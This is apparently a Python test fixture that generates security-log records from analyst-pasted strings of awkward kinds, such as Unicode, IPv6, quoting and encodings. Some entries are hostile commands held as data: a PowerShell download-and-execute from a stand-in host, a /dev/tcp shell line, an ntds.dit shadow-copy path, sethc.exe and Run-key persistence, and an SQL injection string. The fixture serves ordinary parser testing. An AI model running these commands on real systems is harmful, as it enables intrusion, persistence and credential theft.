"""Texts that analysts paste, of kinds that event logs have few of; each is the value of one record of the typed case."""

from __future__ import annotations

BASE64 = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"

PASTED: dict[str, tuple[str, ...]] = {
    "file URL": ("file:///C:/Users/Public/rapport%202026.docx", "file://srv-paie-01/share$/a.txt", "see file:///etc/cron.d/run-7 (local)"),
    "IPv6": (
        "2001:0db8:85a3:0000:0000:8a2e:0370:7334",
        "fe80::1ff:fe23:4567:890a%eth0",
        "http://[2001:db8::7]:8080/x",
        "::ffff:198.51.100.7 -> [2001:db8:7::1]:443",
    ),
    "mail with plus": (
        "alice.martin+incident@mairie-exemple.fr",
        "From: bob+x_y@corp.example To: <soc+urgent@corp.example>",
        "mailto:o'neil+7@corp.example",
    ),
    "German": (
        "Überprüfung der Zugriffsberechtigungen für Größenänderungen",
        "C:\\Benutzer\\Jürgen Weiß\\Anhänge\\Rechnung_März.xlsx",
        "GRÖSSE straße Maßnahme",
    ),
    "Chinese": ("检测到可疑进程 powershell.exe 已启动", "C:\\用户\\公共\\报告-2026.docx", "用户登录失败（原因：密码错误）"),
    "decomposed": (
        "re\u0301sume\u0301 pa\u0308ssword-Tu\u0308r.docx",
        "C:\\Te\u0301le\u0301chargements\\e\u0301te\u0301.ps1",
        "A\u030angstro\u0308m n\u0303",
    ),
    "emoji": (
        "urgent \U0001f600\U0001f4a3 payload\U0001f469\u200d\U0001f4bb.exe",
        "\U0001f525pwned\U0001f525 by me",
        "C:\\Temp\\\U0001f4c1\\invoice\u2764\ufe0f.lnk",
    ),
    "long token": (
        "powershell -enc " + "".join(f"{n:04x}" for n in range(11_000)),
        "long " + "Ab9" * 4_000,
        "bin " + "7f" * 20_500 + " end",
    ),
    "number": ("1,234,567.89 bytes", "1 234 567 octets, 0x7ffe_0000", "+1.2e+10; -7; 12:34; 1/3; 50%"),
    "time in another spelling": (
        "31/10/2026 19:22:03",
        "Oct 31, 2026 7:22:03 PM",
        "2026-10-31T19:22:03+02:00",
        "20261031T192203Z and 1793474523.118",
        "[31/Oct/2026:19:22:03 +0000]",
    ),
    "quotes inside quotes": (
        'cmd /c "powershell -Command \\"& {Invoke-Item \'C:\\a b\\c.txt\'}\\""',
        'wmic process call create "cmd /c ""echo hi"" > x"',
        "sh -c 'echo \"it'\\''s here\"'",
    ),
    "UNC path": (
        "\\\\fs01.corp.example\\share$\\Finance 2026\\pay roll.xlsx",
        "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit",
        "\\\\.\\pipe\\msagent_4f",
    ),
    "variable": (
        "%APPDATA%\\Microsoft\\x.exe",
        "$env:TEMP\\drop.ps1; ${env:ProgramFiles(x86)}\\t",
        'copy "%SystemRoot%\\System32\\sethc.exe" %TMP%\\a',
        "export PATH=$HOME/.local/bin:$PATH",
    ),
    "base64": (f"{BASE64}/ZQ3+abc==", f"powershell -e {BASE64}=", "data:text/html;base64,PHNjcmlwdD4+YWxlcnQ8L3NjcmlwdD4="),
    "Windows option": (
        'reg add HKCU\\Software\\X /v Run /t REG_SZ /d "C:\\x.exe" /f',
        "icacls C:\\x /grant:r Everyone:(OI)(CI)F /T /C",
        "schtasks /create /sc:onlogon /tn:up /tr:C:\\t.exe",
    ),
    "long option": (
        "curl --output-dir=/tmp/.x --user-agent=Mozilla/5.0 https://e.example/p",
        "msedge.exe --type=renderer --lang=fr-FR --field-trial-handle=1820,i",
        'rsync --exclude="*.log" --rsh=ssh user@10.0.0.5::data/',
    ),
    "JSON": (
        '{"cmd":"whoami","args":["/all",1],"ok":true,"n":null}',
        "{'user': 'alice', 'roles': ['admin', 'dba'], 'ip': '10.0.0.5'}",
        '[{"a":{"b":[{"c":"deep.exe"}]}}]',
    ),
    "XML": (
        '<Task version="1.2"><Exec><Command>cmd.exe</Command></Exec></Task>',
        "<a:b xmlns:a='urn:x'>v&amp;w</a:b>",
        "<![CDATA[ calc.exe ]]><!-- note -->",
    ),
    "hexdump": (
        "00000000  4d 5a 90 00 03 00 00 00  04 00 00 00 ff ff 00 00  |MZ......|",
        "0x0010: 4500 003c 1c46 4000",
        "\\x90\\x90\\xeb\\x1f de:ad:be:ef",
    ),
    "script": (
        "IEX(New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')",
        "[System.Convert]::FromBase64String($a)|%{$_ -bxor 0x35}",
        "exec 5<>/dev/tcp/198.51.100.7/4444;cat <&5",
        "c^m^d.e^x^e /c s^e^t & SELECT name FROM users WHERE '1'='1' --",
    ),
    "directory name": (
        "CN=Alice Martin,OU=Users,DC=corp,DC=example",
        "(&(objectCategory=person)(samAccountName=adm))",
        "MSSQLSvc/sql01.corp.example:1433",
    ),
    "stream or class": (
        "notes.txt:hidden.exe:$DATA",
        "shell:::{20D04FE0-3AEA-1069-A2D8-08002B30309D}",
        "C:\\PROGRA~1\\ABCDEF~2.exe, D:(A;;CCLCSW;;;SY)",
    ),
}


def records() -> list[dict]:
    """One record for each text, in the message, in a keyword field, or below a free-form one."""
    found = []
    for n, text in enumerate(one for pasted in PASTED.values() for one in pasted):
        at = f"2026-11-{n % 28 + 1:02d}T08:00:00Z"
        record = {"@timestamp": at, "event.dataset": "typed", "host.name": "srv-pasted", "escadre.id": f"{n + 0xBCD000:032x}"}
        place = ("message", "process.command_line", "winlog.event_data", "file.path")[n % 4]
        found.append({**record, place: {"Pasted": text} if place == "winlog.event_data" else text})
    return found
